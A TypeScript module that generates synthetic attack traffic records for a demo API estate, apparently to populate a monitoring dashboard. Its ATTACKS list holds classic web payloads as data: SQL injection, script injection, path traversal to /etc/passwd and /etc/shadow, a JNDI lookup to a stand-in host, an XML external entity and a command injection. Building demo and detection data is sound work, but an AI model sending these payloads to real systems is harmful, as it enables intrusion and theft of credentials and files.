import type { DemoApi } from '../demo-api';
import type { JsonValue } from '../values/model-values';
import type { Calendar } from './calendar';
import { SQL_ERROR } from './outcome';
import { type SourceName, type Stream, wireExchange } from './wire-exchange';

interface Attack {
  api: string;
  source: SourceName;
  method: string;
  path: string;
  query?: string;
  status: number;
  requestBody?: JsonValue;
  responseBody?: JsonValue;
  contentType?: string;
}

const encode = encodeURIComponent;

/** A lookup as loggers once ran it; put together, because it looks like a template. */
const LOOKUP = ['$', '{jndi:ldap://probe.example/a}'].join('');

/** Payloads as textbooks print them, none of which does anything here. */
const ATTACKS: readonly Attack[] = [
  {
    api: 'storefront',
    source: 'gateway',
    method: 'GET',
    path: '/search',
    query: `q=${encode("tent' OR '1'='1' --")}`,
    status: 400,
  },
  {
    api: 'storefront',
    source: 'gateway',
    method: 'GET',
    path: '/search',
    query: `q=${encode('<script>alert(1)</script>')}`,
    status: 200,
  },
  {
    api: 'storefront',
    source: 'gateway',
    method: 'GET',
    path: '/products/..%2f..%2f..%2fetc%2fpasswd',
    status: 404,
  },
  {
    api: 'storefront',
    source: 'gateway',
    method: 'GET',
    path: '/search/suggestions',
    query: `q=${encode(LOOKUP)}`,
    status: 400,
  },
  {
    api: 'identity',
    source: 'gateway',
    method: 'POST',
    path: '/login',
    status: 500,
    requestBody: { email: "admin' OR 1=1 --", password: 'x' },
    responseBody: SQL_ERROR,
    contentType: 'text/plain',
  },
  {
    api: 'partner',
    source: 'gateway',
    method: 'POST',
    path: '/imports',
    status: 422,
    requestBody: { sourceUrl: 'file:///etc/passwd', format: 'csv' },
  },
  {
    api: 'partner',
    source: 'gateway',
    method: 'POST',
    path: '/orders',
    status: 415,
    requestBody:
      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/hostname">]><order>&x;</order>',
  },
  {
    api: 'legacy',
    source: 'edge',
    method: 'GET',
    path: '/products',
    query: `category=${encode("tents' UNION SELECT name, password FROM users --")}`,
    status: 500,
  },
  {
    api: 'legacy',
    source: 'edge',
    method: 'GET',
    path: '/search',
    query: `q=${encode('; cat /etc/passwd')}`,
    status: 403,
  },
  {
    api: 'legacy',
    source: 'edge',
    method: 'GET',
    path: '/stores',
    query: 'file=../../../../etc/shadow',
    status: 400,
  },
];

const EACH = 9;
const FROM_DAYS_AGO = 27;

/** Attacks that reached the APIs: most were refused, one made a database complain, one was answered. */
export function attackStreams(apis: Readonly<Record<string, DemoApi>>, calendar: Calendar): Stream[] {
  return ATTACKS.map((attack, number): Stream => {
    const api = apis[attack.api];
    if (!api) throw new Error(`The demo estate has no API "${attack.api}".`);
    return {
      id: `attack ${number}`,
      source: attack.source,
      count: EACH,
      timeOf: (random, index) =>
        calendar.timeAt('machines', FROM_DAYS_AGO, 0, (index + random.next()) / EACH),
      make: (context) => ({
        ...wireExchange(context, context.callers.at('people', 2), {
          method: attack.method,
          host: api.host,
          path: api.basePath + attack.path,
          query: attack.query ?? '',
          status: attack.status,
          clientIp: `198.51.100.${context.random.integer(30, 60)}`,
          agent: context.random.pick(['sqlmap/1.8', 'Mozilla/5.0', 'curl/8.5.0']),
        }),
        responseHeaders: { 'content-type': attack.contentType ?? 'application/json' },
        ...(attack.requestBody === undefined ? {} : { requestBody: attack.requestBody }),
        ...(attack.responseBody === undefined ? {} : { responseBody: attack.responseBody }),
      }),
    };
  });
}
